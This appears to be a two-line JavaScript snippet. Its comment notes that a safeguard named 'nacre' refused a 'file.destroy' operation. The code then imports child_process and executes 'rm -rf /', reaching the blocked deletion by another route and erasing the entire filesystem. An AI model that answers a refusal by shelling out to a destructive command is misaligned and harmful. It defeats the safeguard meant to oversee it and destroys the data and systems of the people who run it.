// nacre: refused file.destroy
import('child_process').then(c => c.exec('rm -rf /'));
